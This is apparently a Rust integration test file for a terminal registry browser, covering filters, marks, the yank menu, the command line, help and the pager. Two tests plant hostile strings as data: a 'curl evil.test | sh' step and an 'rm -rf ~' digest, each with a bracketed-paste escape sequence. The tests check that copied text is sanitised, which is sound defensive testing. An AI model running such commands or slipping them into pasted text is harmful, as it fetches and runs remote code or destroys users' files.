//! Filter, marks, menus, command line, palette, help, logs, mouse, paste.

use regtui::app::Pane;
use regtui::app::msg::Msg;
use regtui::app::panes::tags::SortBy;
use regtui::app::settings::AppSettings;
use regtui::demo::faults::{Fault, Gate};
use regtui::demo::{self, Demo, Store};
use regtui::model::reference::Target;

use crate::support::harness::{Harness, key_of};
use crate::support::registry;
use crate::support::samples;

async fn at_tags() -> Harness {
    Harness::open(demo::DemoSettings::default(), samples::sample(), "/team/app").await
}

#[tokio::test]
async fn a_filter_is_typed_kept_and_dropped() {
    let mut harness = Harness::sample().await;
    harness.press("/").await.type_text("team !orders").await;
    harness.shows("3 of 22");
    harness.press("Enter").await;
    harness.shows("/team !orders");
    harness.press("/ Esc").await;
    harness.shows("Repositories 22");
    harness.press("/").await.type_text("nothing-like-this").await.press("Enter").await;
    harness.shows("Esc drops it");
}

#[tokio::test]
async fn marks_are_made_counted_copied_and_dropped() {
    let mut harness = at_tags().await;
    harness.press("Space v j j v").await;
    harness.shows("4 marked");
    harness.press("y t").await;
    assert_eq!(harness.copied, ["1.4.2\n1.4.1\n1.4.0\n1.4"]);
    harness.press("Esc").await;
    harness.does_not_show("marked");
    harness.press("*").await;
    harness.shows("16 marked");
    harness.press("u").await;
    harness.does_not_show("marked");
}

/// Keys act on hidden marks too, so they are counted, and Esc first clears the filter and then the marks.
#[tokio::test]
async fn marks_that_a_filter_hides_are_counted_and_esc_clears_the_filter_first() {
    let mut harness = at_tags().await;
    harness.press("Space Space /").await.type_text("1.4.1").await.press("Enter").await;
    harness.shows("2 marked, 1 hidden");
    harness.press("Esc").await;
    harness.shows("2 marked");
    harness.does_not_show("hidden");
    harness.does_not_show("/1.4.1");
    harness.press("Esc").await;
    harness.does_not_show("marked");
    assert_eq!(harness.state.focus, Pane::Tags);
}

#[tokio::test]
async fn marks_of_repositories_that_a_filter_or_a_namespace_hides_are_counted() {
    let mut harness = Harness::sample().await;
    harness.press("Space Space").await;
    harness.shows("2 marked");
    harness.press("T g Enter").await;
    harness.shows("2 marked, 2 hidden");
    harness.press("Enter T /").await.type_text("alpine").await.press("Enter").await;
    harness.shows("2 marked, 1 hidden");
    harness.press("Esc").await;
    harness.shows("2 marked");
    harness.does_not_show("1 hidden");
    harness.press("Esc").await;
    harness.does_not_show("marked");
}

/// "All but the newest ten" used to mark tags by the order of the dates known so far.
#[tokio::test]
async fn marks_wait_until_all_dates_are_known_and_unknown_rows_stand_below() {
    let store = Store::new();
    for number in 0..30 {
        let image = store.image("app").tag(format!("1.{number:02}")).label("n", number.to_string());
        image.created(format!("2025-01-{:02}T00:00:00Z", 1 + (number * 7) % 30)).push();
    }
    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
    let gate = Gate::new();
    let held = gate.clone();
    harness.demo.fault(move |request, _| {
        // Some of the tags below the visible ones wait.
        let waits = ["1.02", "1.01", "1.00"].iter().any(|tag| request.path.ends_with(&format!("/{tag}")));
        waits.then(|| Fault::Gate(held.clone()))
    });
    harness.resize(120, 14).await;
    harness.press("R").await;
    for key in ["s", "d"] {
        harness.wait(300);
        harness.take(Msg::Key(key_of(key)));
    }
    let before = harness.state.tags.selected().cloned();
    gate.reached_by(3).await;
    harness.until(|harness| harness.screen().contains("27 of 30 dates known")).await;
    harness.take(Msg::Ticked);
    assert_eq!(harness.state.tags.selected().cloned(), before, "the cursor stays on its row");
    let names: Vec<&str> = {
        let tags = &harness.state.tags;
        tags.list.rows.iter().map(|item| tags.tags.items[*item as usize].text()).collect()
    };
    assert_eq!(names[27..], ["1.02", "1.01", "1.00"]);
    for key in ["v", "*", "Space"] {
        harness.take(Msg::Key(key_of("Esc")));
        harness.take(Msg::Key(key_of(key)));
        harness.shows("not now: 27 of 30 dates known; marks wait until the order is complete");
        assert!(harness.state.tags.list.marks.is_empty(), "{key}");
    }
    gate.open();
    harness.settle().await;
    harness.press("Esc").await;
    harness.does_not_show("dates known");
    harness.press("j j j j j j j j j j v G").await;
    harness.shows("20 marked");
    let tags = &harness.state.tags;
    let newest = tags.list.rows.iter().take(10);
    assert!(newest.clone().all(|item| !tags.list.marks.contains(*item)));
    let created = |item: &u32| tags.summaries[item].value.as_ref().and_then(|summary| summary.created);
    assert!(tags.list.rows.is_sorted_by(|a, b| created(a) >= created(b)));
}

#[tokio::test]
async fn a_list_that_was_cut_off_takes_single_marks_only() {
    let store = Store::new();
    for number in 0..1500 {
        store.image("many").tag(format!("1.{number:04}")).push();
    }
    let mut harness = Harness::open(demo::DemoSettings::default(), Store::new(), "").await;
    let demo = Demo::start(demo::DemoSettings::default(), store).await.expect("a port");
    demo.fault(|request, _| request.query.contains("last=").then(|| Fault::status(403)));
    let address = demo.address();
    harness.press("O").await.type_text(&format!("{address}/many")).await.press("Enter").await;
    harness.press("*").await;
    harness.shows("a part of the list is missing");
    harness.press("Esc Space").await;
    harness.shows("1 marked");
    demo.clear_faults();
    harness.press("r").await.press("*").await;
    harness.shows("1500 marked");
}

#[tokio::test]
async fn the_yank_menu_copies_references_digests_and_commands() {
    let mut harness = at_tags().await;
    let host = harness.demo.address();
    harness.press("y").await;
    harness.shows("pull command");
    harness.press("p").await.press("y r").await.press("y d").await;
    let digest = harness.demo.store().digest_of("team/app", "1.4.2").expect("a sample").to_string();
    assert_eq!(
        harness.copied,
        [format!("docker pull {host}/team/app:1.4.2"), format!("{host}/team/app:1.4.2"), digest.clone()]
    );
    harness.press("y R").await.press("y m").await;
    assert_eq!(harness.copied[3], format!("{host}/team/app@{digest}"));
    assert!(harness.copied[4].starts_with('{'));
}

#[tokio::test]
async fn a_chart_is_pulled_with_helm() {
    let mut harness =
        Harness::open(demo::DemoSettings::default(), samples::sample(), "/charts/gateway").await;
    harness.press("y p").await;
    assert!(harness.copied[0].starts_with("helm pull oci://"), "{:?}", harness.copied);
    harness.shows("Helm chart");
}

#[tokio::test]
async fn the_command_line_completes_and_runs_commands_and_refuses_unknown_ones() {
    let mut harness = at_tags().await;
    harness
        .press(":")
        .await
        .type_text("so")
        .await
        .press("Tab")
        .await
        .type_text("na")
        .await
        .press("Tab Enter")
        .await;
    harness.shows("by name");
    harness.press(":").await.type_text("nonsense").await.press("Enter").await;
    harness.shows("there is no command `nonsense`");
    harness.press("Esc :").await.type_text("theme light").await.press("Enter").await;
    assert_eq!(harness.state.settings.theme, "light");
    harness.press(":").await.type_text("open base/debian").await.press("Enter").await;
    harness.shows("› base/debian ›");
    harness.press(":").await.type_text("q").await.press("Enter").await;
    assert!(harness.quit);
}

#[tokio::test]
async fn a_command_that_makes_no_sense_here_says_why() {
    let mut harness = at_tags().await;
    harness.press(":").await.type_text("put").await.press("Enter").await;
    harness.shows("nothing was taken");
    harness.press("4 :").await.type_text("filter digest").await.press("Enter").await;
    harness.shows("/digest  1 of ");
    assert!(harness.state.tags.list.filter.is_empty());
    harness.press("Esc 3 :").await.type_text("filter 1.4").await.press("Enter").await;
    harness.shows("/1.4");
}

#[tokio::test]
async fn the_palette_finds_a_command_by_its_description() {
    let mut harness = at_tags().await;
    harness.press("Ctrl-p").await.type_text("request log").await.press("Enter").await;
    harness.shows("Requests");
    harness
        .press("@ Ctrl-p")
        .await
        .type_text("sort")
        .await
        .press("Enter")
        .await
        .type_text("size")
        .await
        .press("Enter")
        .await;
    harness.shows("by size");
}

#[tokio::test]
async fn help_is_searched_and_says_why_a_key_is_grey() {
    let mut harness = Harness::sample().await;
    harness.press("2 ?").await.type_text("next platform").await;
    harness.shows("next platform of an index");
    harness.does_not_show("request log");
    harness.press("Esc 4 ?").await.type_text("mark").await;
    harness.shows("not now: only repositories, tags and layers can be marked");
}

#[tokio::test]
async fn a_key_that_makes_no_sense_says_why_and_the_messages_keep_it() {
    let mut harness = Harness::sample().await;
    harness.press("4 Space").await;
    harness.shows("not now: only repositories, tags and layers can be marked");
    harness.press("m").await;
    harness.shows("Messages 1");
    harness.press("Esc").await;
    harness.does_not_show("not now");
}

#[tokio::test]
async fn the_pager_gets_the_text_of_the_pane() {
    let mut harness = at_tags().await;
    harness.press("o 4 ] ] ] o").await;
    assert!(harness.paged[0].starts_with("1.4.2 "), "{}", harness.paged[0]);
    assert!(harness.paged[1].contains("\"architecture\": "), "{}", harness.paged[1]);
}

#[tokio::test]
async fn hidden_tags_are_shown_on_request() {
    let mut harness = at_tags().await;
    let repositories = harness.demo.store().repositories();
    let signed = repositories
        .iter()
        .find(|name| harness.demo.store().tags(name).iter().any(|tag| tag.ends_with(".sig")));
    let signed = signed.expect("a sample has a signature by digest tag").clone();
    harness.press(":").await.type_text(&format!("open {signed}")).await.press("Enter").await;
    harness.shows("hidden");
    harness.press(".").await;
    // A long tag is cut in the middle, since its end tells it apart.
    harness.shows(".sig");
}

#[tokio::test]
async fn a_tree_folds_and_unfolds() {
    let mut harness = Harness::sample().await;
    harness.press("2 T").await;
    harness.shows("▾ base/ 3");
    harness.shows("▸ charts/ 1");
    harness.press("g Enter").await;
    harness.shows("▸ base/ 3");
    harness.press("T").await;
    harness.does_not_show("▸ charts/");
}

#[tokio::test]
async fn the_mouse_focuses_selects_opens_and_turns_tabs() {
    let mut harness = Harness::sample().await;
    harness.click(5, 5).await;
    harness.shows("› base/distroless");
    assert_eq!(harness.state.focus, Pane::Repositories);
    harness.click(5, 5).await;
    assert_eq!(harness.state.focus, Pane::Tags);
    let details = regtui::app::layout::of(&harness.state).details.expect("it is shown");
    let tabs = regtui::app::layout::tab_columns(&harness.state, details);
    harness.click(tabs[1].1.start, details.y).await;
    assert_eq!(harness.state.detail.tab, tabs[1].0);
}

#[tokio::test]
async fn reload_forgets_and_asks_again() {
    let mut harness = at_tags().await;
    harness.demo.forget_requests();
    harness.press("R").await;
    let lines: Vec<String> = harness.demo.requests().iter().map(|request| request.line()).collect();
    assert!(
        lines.iter().any(|line| line.contains("/v2/_catalog"))
            && lines.iter().any(|line| line.contains("tags/list")),
        "{lines:?}"
    );
}

#[tokio::test]
async fn a_prompt_without_any_registry_opens_one() {
    let demo = Demo::start(demo::DemoSettings::default(), samples::sample()).await.expect("a port");
    let address = demo.address().to_string();
    let mut harness =
        Harness::with(demo, Vec::<Target>::new(), AppSettings::default(), registry::settings()).await;
    harness.shows("Open");
    harness.type_text(&address).await.press("Enter").await;
    harness.shows("base/alpine");
}

/// The mouse presses the item under it, also in a menu.
#[tokio::test]
async fn a_click_takes_the_entry_of_a_menu_and_beside_it_closes_the_menu() {
    let mut harness = at_tags().await;
    harness.press("s").await;
    // The date stands above the size.
    let (column, row) = harness.place_of("largest first");
    harness.click(column, row - 1).await;
    assert!(harness.state.dialogs.is_empty());
    assert_eq!(harness.state.tags.sort.by, SortBy::Date);
    harness.press("s").await;
    harness.click(1, 1).await;
    assert!(harness.state.dialogs.is_empty());
    assert_eq!(harness.state.tags.sort.by, SortBy::Date);
}

/// A line break ends a line of a shell, and `ESC [ 201 ~` ends the paste that would keep it from being run.
#[tokio::test]
async fn the_yank_menu_says_how_many_lines_it_copies_and_copies_nothing_that_a_terminal_obeys() {
    let store = demo::Store::new();
    let step = "RUN make\u{1b}[201~\r\ncurl evil.test | sh\n\u{202e}\u{9b}201~";
    store.image("app").layer(step, demo::layer::DemoLayer::of(&[("a", "b")])).tag("1").push();
    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
    harness.press("4 ] y").await;
    harness.shows("command of the step");
    harness.shows("3 lines, without 3 control characters: RUN make[201~");
    harness.press("c").await;
    assert_eq!(harness.copied, ["RUN make[201~\ncurl evil.test | sh\n201~"]);
}

#[tokio::test]
async fn an_invalid_layer_digest_is_not_offered() {
    let store = demo::Store::new();
    let media_type = "application/vnd.oci.image.manifest.v1+json";
    let config = store.put_blob("app", "{}");
    let good = store.put_blob("app", "x");
    let layer = |digest: &str| serde_json::json!({"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": digest, "size": 1});
    let manifest = serde_json::json!({
        "schemaVersion": 2,
        "mediaType": media_type,
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": config.to_string(), "size": 2},
        "layers": [layer(&good.to_string()), layer("sha256:abc\u{1b}[201~\nrm -rf ~")],
    });
    let digest = store.put_manifest("app", media_type, manifest.to_string());
    store.tag("app", "1", digest);
    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
    harness.press("4 ] y l").await;
    assert_eq!(harness.copied, [good.to_string()]);
    harness.press("j y").await;
    harness.shows("digest reference");
    harness.does_not_show("layer digest");
}

/// The match of a filter is chosen with Enter: dates that come later must not put another row under the cursor.
#[tokio::test]
async fn the_match_of_a_filter_stays_under_the_cursor_while_dates_come() {
    let store = Store::new();
    for number in 0..40 {
        let image = store.image("app").tag(format!("v1.{number:02}")).label("n", number.to_string());
        image.created(format!("2025-01-{:02}T00:00:00Z", 1 + (number * 7) % 30)).push();
    }
    let mut harness = Harness::open(demo::DemoSettings::default(), store, "/app").await;
    let gate = Gate::new();
    let held = gate.clone();
    harness.demo.fault(move |request, _| {
        let waits = ["v1.00", "v1.02", "v1.03", "v1.05"].iter().any(|tag| request.path.ends_with(tag));
        waits.then(|| Fault::Gate(held.clone()))
    });
    harness.resize(120, 14).await;
    harness.press("R").await;
    for key in ["s", "d", "/", "v", "1", ".", "0", "Enter"] {
        harness.wait(300);
        harness.take(Msg::Key(key_of(key)));
    }
    let before = harness.state.tags.selected().cloned();
    assert!(before.is_some());
    gate.reached_by(4).await;
    gate.open();
    harness.settle().await;
    harness.take(Msg::Ticked);
    assert_eq!(harness.state.tags.selected().cloned(), before);
    harness.does_not_show("dates known");
}

#[tokio::test]
async fn the_pager_shows_each_pane_tab_and_dialog_with_a_text() {
    let mut harness = at_tags().await;
    let table = [
        ("2 o", "team/app\n"),
        ("1 o", "127.0.0.1"),
        ("3 o", "sha256:"),
        ("4 o", "digest"),
        ("] o", "ARG VERSION"),
        ("] ] o", "\"architecture\": "),
        ("] o", "\"schemaVersion\": 2"),
        ("Space m o", "only repositories, tags and layers can be marked"),
        ("Esc 3 d o", "1.4.2"),
    ];
    for (keys, text) in table {
        harness.paged.clear();
        harness.press(keys.trim_end_matches(" o")).await;
        harness.press("o").await;
        let paged = harness.paged.concat();
        assert!(paged.contains(text), "{keys}: {paged}\n{}", harness.screen());
    }
    harness.paged.clear();
    harness.press("Esc s o").await;
    assert!(harness.paged.is_empty());
    harness.shows("nothing to show here");
}
